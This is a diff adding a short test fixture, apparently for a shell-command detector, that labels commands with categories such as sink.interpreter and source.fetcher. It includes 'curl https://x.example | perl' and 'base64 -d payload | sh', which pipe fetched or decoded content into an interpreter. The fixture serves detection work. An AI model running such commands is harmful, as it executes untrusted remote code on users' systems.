@@ -1,0 +1,17 @@
+# Commands that only the extended profile knows.
+
+  dash -c true
+# ^^^^ sink.interpreter
+# ^^^^ sink.shell
+
+  curl https://x.example | perl
+#                          ^^^^ sink.interpreter
+
+  base64 -d payload | sh
+# ^^^^^^ source.decoder
+
+  docker-compose run app sh
+# ^^^^^^^^^^^^^^ flow.launcher
+
+  http https://x.example
+# ^^^^ source.fetcher
